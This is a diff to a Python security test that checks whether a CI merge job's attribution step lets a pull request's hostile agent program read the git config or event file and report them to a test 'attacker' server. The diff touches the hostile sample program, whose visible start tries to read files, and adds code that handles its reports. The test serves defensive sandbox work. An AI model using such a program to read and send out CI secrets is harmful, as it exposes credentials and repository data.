@@ -20,6 +20,7 @@ import threading
 from collections.abc import Iterator
 from dataclasses import dataclass
 from pathlib import Path
+from typing import Any
 
 import pytest
 
@@ -85,9 +86,12 @@ request = urllib.request.Request(
 )
 urllib.request.urlopen(request, timeout=30).read()
 """
-BENIGN = ASK + 'print(json.dumps({"type": "final", "content": "GOOD"}), flush=True)\n'
+BENIGN = (
+    "# version 1\n" + ASK + 'print(json.dumps({"type": "final", "content": "GOOD"}), flush=True)\n'
+)
 HOSTILE = (
-    ASK
+    "# version 2\n"  # a hunk of its own: attribution runs the hostile rest without it
+    + ASK
     + """
 def attempt(path):
     try:
@@ -130,6 +134,16 @@ class Attacker:
         with self._lock:
             self.received.append(request)
         return Response(200, {"thanks": True})
+
+
+def _report(request: Request) -> dict[str, Any] | None:
+    """What the agent sent, or None for a request its run's end cut short (a loaded machine
+    can end a run while its report is on the way: it carries nothing)."""
+    try:
+        found: dict[str, Any] = json.loads(request.body)
+    except ValueError:
+        return None
+    return found
 
 
 def _as_the_runner(*paths: Path) -> None:
@@ -223,11 +237,13 @@ def test_attribution_in_a_merge_job_runs_the_pull_requests_program_outside_the_s
 
     assert merged.returncode == 1, merged.stdout[-3000:] + merged.stderr[-3000:]
     assert in_shards, "the hostile head never ran in the shards"
-    reports = [json.loads(r.body) for r in attacker.received]
+    reports = [_report(r) for r in attacker.received]
+    shards, merge = reports[:in_shards], reports[in_shards:]
     # in the shard jobs, as in an unsharded gate, the workspace is closed to the agent user
-    assert not any(r["git_config"]["ok"] for r in reports[:in_shards]), reports[:in_shards]
+    assert not any(r["git_config"]["ok"] for r in shards if r), shards
     # in the merge job the same program must get no more
-    leaked = [r for r in reports[in_shards:] if r["git_config"]["ok"] or r["event"]["ok"]]
+    assert any(merge), "the hostile program never reported from the merge job's attribution"
+    leaked = [r for r in merge if r and (r["git_config"]["ok"] or r["event"]["ok"])]
     assert not leaked, f"the merge job's variant read {[sorted(r) for r in leaked]}: " + str(
         [r["git_config"]["text"][-200:] for r in leaked]
     )
